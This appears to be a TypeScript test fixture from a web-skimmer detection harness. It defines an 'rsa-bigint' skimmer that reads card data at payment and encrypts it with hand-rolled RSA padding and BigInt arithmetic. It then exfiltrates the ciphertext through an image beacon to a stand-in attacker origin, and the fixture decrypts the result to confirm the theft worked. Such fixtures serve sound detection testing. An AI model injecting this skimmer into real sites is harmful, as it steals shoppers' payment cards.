import { constants, generateKeyPairSync, privateDecrypt } from 'node:crypto';
import { holds, js, skimmer } from '../behaviour.ts';
import { query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 1024 });
const modulus = Buffer.from(publicKey.export({ format: 'jwk' }).n ?? '', 'base64url').toString('hex');

export default skimmer({
  id: 'rsa-bigint',
  why: 'RSA PKCS#1 v1.5 by arithmetic of its own with random padding (two of 88 samples carry an RSA library): no platform cipher, and another text each time.',
  covers: ['encoding: RSA', 'cipher: any', 'sending: image'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    var n = BigInt('0x${modulus}'), size = 128, text = card().slice(0, 60);
    var block = '0002';
    for (var i = 0; i < size - 3 - text.length; i++) block += ('0' + (1 + Math.floor(Math.random() * 255)).toString(16)).slice(-2);
    block += '00' + Array.from(text).map(function (c) { return ('0' + (c.charCodeAt(0) & 255).toString(16)).slice(-2); }).join('');
    var m = BigInt('0x' + block), out = 1n, b = m;
    for (var e = 65537n; e > 0n; e >>= 1n) { if (e & 1n) out = out * b % n; b = b * b % n; }
    new Image().src = '${site.origins.evil}/ads/px.gif?k=' + out.toString(16).padStart(size * 2, '0');`),
    ),
  proof: holds((arrived) =>
    query(arrived, 'k').map((text) =>
      privateDecrypt(
        { key: privateKey, padding: constants.RSA_PKCS1_PADDING },
        Buffer.from(text, 'hex'),
      ).toString('latin1'),
    ),
  ),
});
